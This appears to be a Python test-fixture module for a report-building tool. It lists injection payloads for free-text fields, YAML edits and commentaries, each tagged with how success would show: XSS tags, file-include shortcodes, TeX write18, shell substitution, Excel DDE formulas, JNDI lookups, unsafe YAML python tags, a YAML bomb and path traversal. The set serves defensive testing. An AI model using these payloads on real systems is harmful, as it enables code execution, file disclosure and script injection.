"""The attacks, as data: what somebody could write in a field, and what must come of it.

``{canary}`` is a file that must not be read, ``{made}`` one that must not come into being, ``{url}`` an address on
this machine at which somebody listens.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """A text that must be shown as text wherever it is written, or be refused.

    Parameters
    ----------
    id
        What it is called.
    field
        Where it is written; ``text`` stands for every field of free wording.
    payload
        The text.
    trace
        How it would be seen to have worked.
    """

    id: str
    field: str
    payload: str
    trace: str


READ, MADE, CALLED, MARKUP, BROKEN = "canary read", "file made", "connection", "other elements", "page or run broken"

_TEXTS: dict[str, dict[str, str]] = {
    CALLED: {
        "html-script-src": '<script src="URL/a.js"></script>',
        "html-img": '<img src="URL/a.png" onerror="alert(1)">',
        "html-iframe": '<iframe src="URL/"></iframe>',
        "html-object": '<object data="URL/a.swf"></object>',
        "html-embed": '<embed src="URL/a">',
        "html-link": '<link rel="stylesheet" href="URL/a.css">',
        "html-meta-refresh": '<meta http-equiv="refresh" content="0;url=URL/">',
        "html-base": '<base href="URL/">',
        "html-form": '<form action="URL/"><input name=a></form>',
        "html-video": '<video poster="URL/a.png" src="URL/a.mp4"></video>',
        "html-style-import": '<style>@import url("URL/a.css");</style>',
        "html-style-background": '<p style="background:url(URL/a.png)">x</p>',
        "html-svg-use": '<svg><use href="URL/a.svg#b"/></svg>',
        "html-svg-image": '<svg><image xlink:href="URL/a.png"/></svg>',
        "html-srcset": '<img srcset="URL/a.png 1x">',
        "html-template": '<template><img src="URL/t"></template>',
        "md-image": "![bild](URL/b.png)",
        "md-image-reference": "![bild][a]\n\n[a]: URL/c.png",
        "md-image-attributes": "![](URL/d.png){width=1px}",
        "md-autolink": "<URL/auto>",
        "md-svg-image": "![x](URL/bild.svg)",
        "typst-image": '#image("URL/a.png")',
        "tex-href": "\\href{URL}{x}",
        "tex-includegraphics": "\\includegraphics{URL/a.png}",
        "shortcode-video": "{{< video URL/a.mp4 >}}",
        "excel-webservice": '=WEBSERVICE("URL/?a=1")',
        "excel-hyperlink": '=HYPERLINK("URL/";"Klicka")',
        "excel-image": '=IMAGE("URL/a.png")',
        "excel-importxml": '=IMPORTXML("URL/";"//a")',
        "excel-rtd": '=RTD("a.b";"URL";"x")',
        "mermaid-fetch": '```{mermaid}\nclick A href "URL/"\n```',
    },
    READ: {
        "md-include": "{{< include CANARY >}}",
        "md-include-escaped": "\\{{< include CANARY >}}",
        "md-include-spaced": "{{<   include   CANARY   >}}",
        "md-include-percent": "{{% include CANARY %}}",
        "md-include-split": "{{<\ninclude CANARY\n>}}",
        "md-embed": "{{< embed CANARY#a >}}",
        "md-image-file": "![](CANARY)",
        "md-image-file-url": "![](file://CANARY)",
        "md-code-include": '```{.python include="CANARY"}\n```',
        "typst-read": '#read("CANARY")',
        "typst-include": '#include "CANARY"',
        "typst-json": '#json("CANARY")',
        "typst-raw-block": '```{=typst}\n#read("CANARY")\n```',
        "typst-raw-inline": '`#read("CANARY")`{=typst}',
        "typst-bytes": '#eval("read(\\"CANARY\\")")',
        "tex-input": "\\input{CANARY}",
        "tex-openin": "\\newread\\f\\openin\\f=CANARY\\read\\f to\\a",
        "docx-raw-block": '```{=openxml}\n<w:fldSimple w:instr="INCLUDETEXT CANARY"/>\n```',
        "docx-field": '<w:instrText>INCLUDETEXT "CANARY"</w:instrText>',
        "html-ssi": '<!--#include file="CANARY" -->',
        "html-object-file": '<object data="file://CANARY"></object>',
        "xml-entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file://CANARY">]><a>&b;</a>',
        "xml-xinclude": '<xi:include href="file://CANARY" parse="text"/>',
        "shortcode-env": "{{< env HOME >}}",
        "shortcode-env-secret": "{{< env FOLLOWUP_CANARY >}}",
        "jinja-open": "{{ open('CANARY').read() }}",
        "jinja-globals": "{{ self.__init__.__globals__.__builtins__.open('CANARY').read() }}",
        "format-string": "{0.__class__.__init__.__globals__}",
        "bibliography": "---\nbibliography: CANARY\n---",
        "metadata-filter": "---\nfilters: [CANARY]\n---",
        "excel-external": "='file://CANARY'#$Blad1.A1",
        "path-traversal": "../../../../../../CANARY",
    },
    MADE: {
        "code-python": "```{python}\nopen('MADE', 'w').close()\n```",
        "code-python-inline": "`{python} open('MADE', 'w')`",
        "code-r-inline": "`r system('touch MADE')`",
        "code-knitr": "```{r}\nsystem('touch MADE')\n```",
        "code-ojs": "```{ojs}\nopen('MADE')\n```",
        "lua-raw": "```{=lua}\nos.execute('touch MADE')\n```",
        "lua-code": "```{lua}\nio.open('MADE', 'w')\n```",
        "metadata-lua": '---\nfilters: ["MADE.lua"]\n---',
        "tex-write18": "\\immediate\\write18{touch MADE}",
        "tex-openout": "\\newwrite\\f\\immediate\\openout\\f=MADE",
        "shell-backticks": "`touch MADE`",
        "shell-dollar": "$(touch MADE)",
        "shell-semicolon": "x; touch MADE;",
        "shell-pipe": "| touch MADE",
        "shell-newline": "x\ntouch MADE\n",
        "magic-shell": "!touch MADE",
        "magic-double-shell": "!!touch MADE",
        "magic-sx": "%sx touch MADE",
        "magic-cell-bash": "%%bash\ntouch MADE",
        "magic-run": "%run MADE.py",
        "magic-system": "get_ipython().system('touch MADE')",
        "python-end-of-string": "'); open('MADE', 'w') #",
        "python-end-of-quotes": '"); open("MADE", "w") #',
        "python-end-of-triple": '""" + open("MADE", "w").name + """',
        "python-import": "__import__('os').system('touch MADE')",
        "python-f-string": "{open('MADE','w')}",
        "percent-format": "%(open)s %s %n",
        "excel-dde": "=cmd|'/c touch MADE'!A1",
        "excel-dde-plus": "+cmd|'/c touch MADE'!A1",
        "excel-dde-minus": "-2+3+cmd|'/c touch MADE'!A0",
        "excel-dde-at": "@SUM(1+1)*cmd|'/c touch MADE'!A0",
        "excel-call": '=CALL("Shell32";"ShellExecuteA";"JJCCCCJ";0;"open";"MADE")',
        "excel-exec": '=EXEC("touch MADE")',
        "excel-full-width": "＝cmd|'/c touch MADE'!A1",
        "jndi": "${jndi:ldap://127.0.0.1/MADE}",
        "html-download": '<a href="data:text/html,x" download="MADE">x</a>',
    },
    MARKUP: {
        "html-bold": "<b>fet</b>",
        "html-script": "<script>alert(1)</script>",
        "html-script-open": "<script>",
        "html-closing": "</main></body></html>",
        "html-closing-title": "</title><script>alert(1)</script>",
        "html-closing-style": "</style><script>alert(1)</script>",
        "html-comment-open": "<!-- resten är borta",
        "html-cdata": "<![CDATA[<b>x</b>]]>",
        "html-entity": "&lt;b&gt; &#60;script&#62; &amp;",
        "html-attribute-break": '" onmouseover="alert(1)" x="',
        "html-attribute-break-single": "' onfocus='alert(1)' autofocus='",
        "html-javascript-link": "[klicka](javascript:alert(1))",
        "html-data-link": "[klicka](data:text/html;base64,PHNjcmlwdD4=)",
        "html-upper": "<ScRiPt>alert(1)</sCrIpT>",
        "html-details": "<details open ontoggle=alert(1)>",
        "html-svg-onload": "<svg/onload=alert(1)>",
        "html-math": "<math><mtext></mtext></math>",
        "html-null": "<scr\x00ipt>alert(1)</script>",
        "md-heading": "# Rubrik",
        "md-heading-setext": "Rubrik\n======",
        "md-list": "- punkt\n- punkt",
        "md-quote": "> citat",
        "md-rule": "\n\n---\n\n",
        "md-table": "| a | b |\n|---|---|\n| 1 | 2 |",
        "md-cell-break": "a | b | c || d",
        "md-emphasis": "*a* **b** _c_ ~~d~~ ~e~ ^f^",
        "md-div": "\n::: {.commentary}\nx\n:::\n",
        "md-div-close": ":::\n:::\n:::",
        "md-span": "[x]{.fact data-fact=implementation.index}",
        "md-footnote": "x[^1]\n\n[^1]: not",
        "md-inline-footnote": "x^[not]",
        "md-citation": "[@doe99, s. 3] och @doe99",
        "md-crossref": "@fig-matrix @tbl-response @sec-method",
        "md-crossref-bad": "@fig-finns-inte",
        "md-label": "{#fig-matrix}",
        "md-math": "$x^2$ $$y$$",
        "md-raw-html": "`<b>x</b>`{=html}",
        "md-shortcode-fact": "{{< fact implementation.index >}}",
        "md-shortcode-var": "{{< var period >}}",
        "md-shortcode-meta": "{{< meta title >}}",
        "md-shortcode-pagebreak": "{{< pagebreak >}}",
        "md-shortcode-unknown": "{{< finnsinte x >}}",
        "md-shortcode-open": "{{< fact",
        "md-definition": "term\n: definition",
        "md-line-block": "| rad\n| rad",
        "md-example": "(@) exempel",
        "md-backslash": "slut\\",
        "md-attribute-quote": 'a"} ![x](y){alt="',
        "typst-heading": "= Rubrik",
        "typst-list": "+ punkt",
        "typst-term": "/ term: text",
        "typst-code": "#strong[x] #pagebreak() #panic()",
        "typst-let": "#let x = 1; #x",
        "typst-show": "#show: it => none",
        "typst-label": "x <fig-matrix> @fig-matrix",
        "typst-bracket": "]] [[ )) ((",
        "typst-comment": "// resten /* är borta",
        "tex-end": "\\end{document}",
        "tex-catcode": "\\catcode`\\%=12 \\def\\a{\\a}\\a",
        "yaml-document": "---\ntitle: annat\n---",
        "yaml-key": "x\nstatus: final",
        "json-break": '","text":"99","x":"',
        "csv-break": 'a";"b";"c',
        "csv-newline": 'a"\n"b";"c"',
        "xml-closing": "</w:t></w:r></w:p>",
        "excel-sum": "=1+1",
        "excel-tab": "\t=1+1",
        "pdf-string": ") /JS (app.alert(1)) (",
        "pdf-name": "<</S/JavaScript/JS(app.alert\\(1\\))>>",
    },
    BROKEN: {
        "unicode-rlo": "abc\u202etxt.exe",
        "unicode-isolate": "\u2066\u2067a\u2069b",
        "unicode-zero-width": "Ge\u200bnom\u200cförd\ufeff",
        "unicode-line-separator": "a\u2028b\u2029c",
        "unicode-tags": "a\U000e0041\U000e0042b",
        "unicode-noncharacter": "a\ufffeb\uffffc",
        "unicode-private": "a\ue000\U000f0000b",
        "unicode-combining": "a" + "\u0301" * 200,
        "unicode-variation": "a\ufe0f\u20e3",
        "unicode-homoglyph": "Ѕосіаlförvaltningen",
        "unicode-full-width": "＜script＞alert(1)＜/script＞",
        "unicode-emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
        "unicode-mongolian": "a\u180eb\u034fc\u061cd",
        "unicode-soft-hyphen": "för\u00advaltning",
        "control-nul": "a\x00b",
        "control-escape": "\x1b[31mröd\x1b[0m\x1b]0;titel\x07",
        "control-backspace": "abc\x08\x08\x08xyz",
        "control-return": "a\rb",
        "control-c1": "a\x85b\x9bc",
        "control-vertical": "a\x0bb\x0cc",
        "long-word": "å" * 3000,
        "long-text": "ord " * 700,
        "deep-brackets": "[" * 400 + "]" * 400,
        "deep-quotes": ">" * 300,
        "deep-lists": " ".join(["-"] * 200),
        "deep-emphasis": "*_" * 300,
        "deep-braces": "{" * 200,
        "number-huge": "9" * 300,
        "number-nan": "NaN",
        "number-infinity": "1e999",
    },
}
TEXTS = [Attack(name, "text", payload, trace) for trace, texts in _TEXTS.items() for name, payload in texts.items()]
"""Texts for every field of free wording."""

PERIOD, PLAN, QUESTIONNAIRE = "period.yaml", "plan.yaml", "questionnaire.yaml"
TITLE = "title: Uppföljning av arbetet mot våld"
_BOMB = "".join(f"  - &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" for n in range(1, 9))
YAML = [
    Attack(name, f"{file}|{old}", new, trace)
    for name, file, old, new, trace in (
        ("yaml-python-apply", PERIOD, TITLE, 'title: !!python/object/apply:os.system ["touch MADE"]', MADE),
        ("yaml-python-new", PERIOD, TITLE, "title: !!python/object/new:subprocess.Popen [[touch, MADE]]", MADE),
        ("yaml-python-name", PLAN, "title: Jourboende", "title: !!python/name:os.system", BROKEN),
        ("yaml-python-module", QUESTIONNAIRE, "title: Uppföljning", "title: !!python/module:os", BROKEN),
        ("yaml-java", PERIOD, TITLE, 'title: !!javax.script.ScriptEngineManager [!!java.net.URL ["URL"]]', CALLED),
        ("yaml-ruby", PERIOD, TITLE, "title: !ruby/object:Gem::Installer {i: x}", BROKEN),
        ("yaml-include-tag", PERIOD, TITLE, "title: !include CANARY", READ),
        ("yaml-env-tag", PERIOD, TITLE, "title: !env HOME", READ),
        ("yaml-binary", PERIOD, TITLE, "title: !!binary YWJj", BROKEN),
        ("yaml-local-tag", PLAN, "title: Jourboende", "title: !x Jourboende", BROKEN),
        ("yaml-anchor", PERIOD, TITLE, "title: &a Uppföljning", BROKEN),
        ("yaml-alias", PERIOD, TITLE, "title: *a", BROKEN),
        ("yaml-bomb", PERIOD, "proposals: [Nämnden godkänner rapporten.]", f"proposals:\n  - &l0 x\n{_BOMB}", BROKEN),
        ("yaml-merge", PERIOD, "synthetic: true", "<<: {status: final}\nsynthetic: true", BROKEN),
        ("yaml-directive", PERIOD, 'period: "2018-2022"', '%TAG ! tag:x,1:\n---\nperiod: "2018-2022"', BROKEN),
        ("yaml-second-document", PERIOD, "recipients:", "---\nrecipients:", BROKEN),
        ("yaml-key-twice", PERIOD, TITLE, f"{TITLE}\n{TITLE}", BROKEN),
        ("yaml-complex-key", PERIOD, TITLE, f"? [a, b]\n: c\n{TITLE}", BROKEN),
        ("yaml-deep", PERIOD, "proposals: [Nämnden godkänner rapporten.]", "proposals: " + "[" * 3000, BROKEN),
        ("yaml-nul", PERIOD, TITLE, "title: a\x00b", BROKEN),
        ("yaml-control", PERIOD, TITLE, "title: a\x1bb", BROKEN),
        ("yaml-unknown-key", PERIOD, TITLE, f"{TITLE}\nfilters: [MADE.lua]", MADE),
        ("yaml-quarto-key", PERIOD, TITLE, f"{TITLE}\ninclude-in-header: CANARY", READ),
        ("yaml-execute-key", PLAN, "title: Jourboende", "title: Jourboende\n    execute: {python: true}", MADE),
        ("period-traversal", PERIOD, 'period: "2018-2022"', 'period: "../../2018-2022"', MADE),
        ("period-absolute", PERIOD, 'period: "2018-2022"', "period: MADE", MADE),
        ("period-shell", PERIOD, 'period: "2018-2022"', "period: 2018-2022; touch MADE", MADE),
        ("period-magic", PERIOD, 'period: "2018-2022"', "period: '!touch MADE'", MADE),
        ("period-previous", PERIOD, "years: [2019, 2020]", "years: [2019, 2020]\nprevious: ../../../CANARY", READ),
        ("period-previous-absolute", PERIOD, "years: [2019, 2020]", "years: [2019, 2020]\nprevious: CANARY", READ),
        ("period-language", PERIOD, TITLE, f"{TITLE}\nlanguage: ../../CANARY", READ),
        ("period-status", PERIOD, "status: draft", "status: <script>", MARKUP),
        ("period-invited-key", PERIOD, "  social: 3", "  ../social: 3", BROKEN),
        ("period-invited-huge", PERIOD, "  social: 3", "  social: 99999999999999999999999", BROKEN),
        ("period-invited-nan", PERIOD, "  social: 3", "  social: .nan", BROKEN),
        ("period-threshold-infinite", PERIOD, "carried_out: 75", "carried_out: .inf", BROKEN),
        ("period-threshold-code", PERIOD, "carried_out: 75", "carried_out: \"__import__('os')\"", MADE),
        ("period-date-code", PERIOD, "opens: 2023-01-16", "opens: $(touch MADE)", MADE),
        ("id-activity-traversal", PLAN, "id: A2", "id: ../../A2", MADE),
        ("id-activity-html", PLAN, "id: A2", 'id: "<img src=URL>"', CALLED),
        ("id-activity-shortcode", PLAN, "id: A2", 'id: "{{< include CANARY >}}"', READ),
        ("id-activity-newline", PLAN, "id: A2", 'id: "A2\\n# x"', MARKUP),
        ("id-activity-nul", PLAN, "id: A2", 'id: "A2\\0"', BROKEN),
        ("id-activity-pipe", PLAN, "id: A2", 'id: "A2|b"', MARKUP),
        ("id-area-traversal", PLAN, "id: support", "id: ../support", MADE),
        ("id-administration-traversal", PLAN, "id: social", "id: ../../social", MADE),
        ("id-administration-absolute", PLAN, "id: social", "id: MADE", MADE),
        ("id-administration-dots", PLAN, "id: social", 'id: ".."', MADE),
        ("id-administration-drive", PLAN, "id: social", "id: C:\\x", MADE),
        ("id-form-bidi", PLAN, "id: honour", 'id: "hon\\u202eour"', BROKEN),
        ("id-plan-formula", PLAN, "id: HP", "id: =1+1", MARKUP),
        ("id-question-traversal", QUESTIONNAIRE, "id: steering", "id: ../steering", MADE),
        ("id-question-code", QUESTIONNAIRE, "id: steering", "id: steering);import os", MADE),
        ("id-scale-dunder", QUESTIONNAIRE, "scale: status", "scale: __class__", BROKEN),
        ("code-option-html", QUESTIONNAIRE, "code: risk", 'code: "<b>"', MARKUP),
    )
]
"""Edits of the small period's YAML that must be refused: ``file|what stands there``."""

BESIDE = {
    "matching.yaml": "pairs:\n- { file: svar.csv, column: C, header: Hur många är ni?, question: staff }\n",
    "privacy.yaml": f"harmless:\n- {{ digest: {'ab' * 32}, reason: Ett diarienummer, reviewed: 2023-03-01 }}\n",
    "findings.yaml": "set_aside:\n- { rule: few_systematic, reason: Fel bas, by: Anna, date: 2023-03-01 }\n",
}
"""The files that a period need not have, as they may be."""
_LISTS = {"matching.yaml": "pairs", "privacy.yaml": "harmless", "findings.yaml": "set_aside"}
_FIRST = {
    "matching.yaml": "file: svar.csv",
    "privacy.yaml": "reason: Ett diarienummer",
    "findings.yaml": "reason: Fel bas",
}
_ANYWHERE = {
    "python-apply": ('{key}: !!python/object/apply:os.system ["touch MADE"]', MADE),
    "include-tag": ("{key}: !include CANARY", READ),
    "anchor": ("{key}: &a x", BROKEN),
    "alias": ("{key}: *a", BROKEN),
    "merge": ("<<: {{a: b}}, {pair}", BROKEN),
    "key-twice": ("{pair}, {pair}", BROKEN),
    "unknown-key": ("{pair}, filters: [MADE.lua]", MADE),
    "control": ('{key}: "a\x1bb"', BROKEN),
    "deep": ("{key}: " + "[" * 3000, BROKEN),
    "list": ("{key}: [a, b]", BROKEN),
}
YAML_BESIDE = [
    *(
        Attack(
            f"{file.split('.')[0]}-{name}",
            f"{file}|{_FIRST[file]}",
            payload.format(key=_FIRST[file].split(":")[0], pair=_FIRST[file]),
            trace,
        )
        for file in BESIDE
        for name, (payload, trace) in _ANYWHERE.items()
    ),
    *(
        Attack(f"{file.split('.')[0]}-{name}", f"{file}|{_LISTS[file]}:", payload.replace("KEY", _LISTS[file]), trace)
        for file in BESIDE
        for name, payload, trace in (
            ("directive", "%TAG ! tag:x,1:\n---\nKEY:", BROKEN),
            ("second-document", "x: y\n---\nKEY:", BROKEN),
            ("bomb", f"a:\n  - &l0 x\n{_BOMB}KEY:", BROKEN),
        )
    ),
    *(
        Attack(name, f"{file}|{old}", new, trace)
        for name, file, old, new, trace in (
            ("matching-column-path", "matching.yaml", "column: C", "column: ../C", READ),
            ("matching-column-formula", "matching.yaml", "column: C", "column: =1+1", MARKUP),
            ("matching-question-path", "matching.yaml", "question: staff", "question: ../staff", READ),
            ("matching-question-unknown", "matching.yaml", "question: staff", "question: __class__", BROKEN),
            ("matching-item-path", "matching.yaml", "question: staff", "question: staff, item: ../../CANARY", READ),
            ("privacy-digest-path", "privacy.yaml", "ab" * 32, "../../CANARY", READ),
            ("privacy-digest-all", "privacy.yaml", "ab" * 32, '".*"', BROKEN),
            ("privacy-digest-capitals", "privacy.yaml", "ab" * 32, "AB" * 32, BROKEN),
            ("privacy-date-code", "privacy.yaml", "2023-03-01", "$(touch MADE)", MADE),
            ("findings-rule-path", "findings.yaml", "few_systematic", "../../CANARY", READ),
            ("findings-rule-code", "findings.yaml", "few_systematic", "__import__('os')", MADE),
            ("findings-rule-markup", "findings.yaml", "few_systematic", '"<img src=URL>"', CALLED),
            ("findings-date-code", "findings.yaml", "2023-03-01", "$(touch MADE)", MADE),
        )
    ),
]
"""Edits of the files that a period need not have, which must be refused: ``file|what stands there``."""

COMMENTARY = [
    Attack(f"commentary-{name}", "commentary", payload, trace)
    for name, payload, trace in (
        ("include", "{{< include CANARY >}}", READ),
        ("include-in-link", "[x](https://a.se/{{< include CANARY >}})", READ),
        ("include-percent", "{{% include CANARY %}}", READ),
        ("include-two-lines", "{{< include\nCANARY >}}", READ),
        ("env", "{{< env HOME >}}", READ),
        ("fact-with-more", "{{< fact implementation.index file=CANARY >}}", READ),
        ("html", "<b>x</b>", MARKUP),
        ("html-comment", "<!-- x -->", MARKUP),
        ("html-script", "<script src=URL></script>", CALLED),
        ("html-entity-split", "<script\nsrc=URL>", CALLED),
        ("autolink", "<URL>", CALLED),
        ("raw-typst", '```{=typst}\n#read("CANARY")\n```', READ),
        ("raw-inline", "`x`{=html}", MARKUP),
        ("raw-tilde", "~~~{=html}\n<b>\n~~~", MARKUP),
        ("code-python", "```{python}\nopen('MADE', 'w')\n```", MADE),
        ("code-indented", "x\n\n    open('MADE')", MADE),
        ("image", "![x](URL)", CALLED),
        ("image-reference", "![x][a]\n\n[a]: URL", CALLED),
        ("reference", "@fig-matrix", MARKUP),
        ("citation", "[-@doe99]", MARKUP),
        ("div", "::: {.commentary}\nx\n:::", MARKUP),
        ("span", "[x]{.fact data-fact=y}", MARKUP),
        ("heading", "# Rubrik", MARKUP),
        ("heading-setext", "Rubrik\n---", MARKUP),
        ("metadata", "---\nfilters: [MADE.lua]\n---", MADE),
        ("math", "$x$", MARKUP),
        ("footnote", "x[^1]\n\n[^1]: y", MARKUP),
        ("table", "| a | b |\n|---|---|", MARKUP),
        ("grid-table", "+---+\n| a |\n+---+", MARKUP),
        ("link-script", "[x](javascript:alert(1))", MARKUP),
        ("link-data", "[x](data:text/html;base64,PHNj)", MARKUP),
        ("link-file", "[x](file://CANARY)", READ),
        ("link-path", "[x](../../../CANARY)", READ),
        ("link-definition", "[x]\n\n[x]: javascript:alert(1)", MARKUP),
        ("line-block", "| a\n| b", MARKUP),
        ("definition", "a\n: b", MARKUP),
        ("unknown-fact", "{{< fact ../../CANARY >}}", READ),
    )
]
"""What a commentary may not hold."""
